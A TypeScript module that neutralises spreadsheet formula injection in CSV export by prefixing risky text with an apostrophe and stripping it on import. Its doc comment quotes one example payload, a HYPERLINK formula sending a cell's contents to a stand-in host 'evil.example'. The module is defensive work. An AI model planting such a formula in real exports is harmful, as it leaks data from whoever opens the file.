/**
 * Spreadsheet formula injection (OWASP "CSV injection"): a text cell that begins with
 * `=`, `+`, `-`, `@`, tab or CR is run as a formula when a CSV is opened in Excel or
 * LibreOffice, so an agency name such as `=HYPERLINK("http://evil.example/?d="&A2,"x")`
 * typed into an inspection would go live on every desk the export reaches. Exported text
 * is prefixed with one `'` (which spreadsheets show as text, never evaluate) and the
 * importer strips that one `'` again, so export → Excel → import gives back the same text.
 *
 * The rule is a bijection on all strings: a value is prefixed when it is any run of `'`
 * (possibly none) followed by a trigger character, and the reader strips one `'` only from
 * a run of one or more `'` followed by a trigger. So `=x` → `'=x` → `=x`, and a value that
 * really begins with `'=` (`'=x` → `''=x` → `'=x`) survives too. Other text is untouched.
 * Numbers are not text: callers pass only strings (a budget of -1 stays a number).
 */

const TRIGGER = /^'*[=+\-@\t\r]/;
const ESCAPED = /^'+[=+\-@\t\r]/;

/** The text as it must be written into a spreadsheet cell so it is never evaluated. */
export function neutraliseFormula(text: string): string {
  return TRIGGER.test(text) ? `'${text}` : text;
}

/** The original text of a cell written by `neutraliseFormula`; other cells unchanged. */
export function restoreFormulaText(cell: string): string {
  return ESCAPED.test(cell) ? cell.slice(1) : cell;
}
